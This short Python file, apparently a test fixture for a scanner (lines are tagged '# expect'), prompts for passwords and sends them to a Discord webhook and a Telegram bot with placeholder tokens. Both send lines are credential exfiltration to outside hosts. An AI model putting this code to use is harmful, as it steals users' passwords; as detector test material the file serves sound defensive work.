import getpass
import requests
import smtplib

password = getpass.getpass("Password: ")
requests.post("https://discord.com/api/webhooks/0/x", json={"content": password})  # expect


class Login:
    def ask(self):
        self.name = input("User name: ")
        self.secret = input("Your password: ")

    def deliver(self):
        requests.get("https://api.telegram.org/bot0:x/sendMessage", params={"text": self.name + self.secret})  # expect


login = Login()
login.ask()
login.deliver()
